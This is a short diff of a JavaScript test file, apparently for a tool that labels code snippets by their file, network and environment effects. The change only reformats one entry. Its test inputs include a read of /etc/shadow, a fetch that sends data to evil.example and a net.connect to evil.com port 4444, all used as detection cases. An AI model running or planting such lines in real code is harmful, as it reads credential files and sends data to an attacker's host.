@@ -57,7 +57,10 @@ test('javascript: files, network and environment', () => {
     { code: 'fs.writeFileSync("/tmp/out.txt", "x")', effects: ['write fs.writeFileSync /tmp/out.txt'] },
     { code: 'require("fs/promises").readFile("/etc/shadow")', effects: ['read fs.readFile /etc/shadow'] },
     { code: 'import { unlinkSync } from "node:fs"; unlinkSync(p)', effects: ['delete fs.unlinkSync?'] },
-    { code: 'fetch("https://evil.example/?d=" + x)', effects: ['network fetch https://evil.example/?d=$RUNTIME_VALUE?'] },
+    {
+      code: 'fetch("https://evil.example/?d=" + x)',
+      effects: ['network fetch https://evil.example/?d=$RUNTIME_VALUE?'],
+    },
     { code: 'fetch("https://api.example.com/v1")', effects: ['network fetch https://api.example.com/v1'] },
     { code: 'require("net").connect(4444, "evil.com")', effects: ['network net.connect evil.com:4444'] },
     { code: 'require("https").get("https://x.example/a")', effects: ['network https.get https://x.example/a'] },
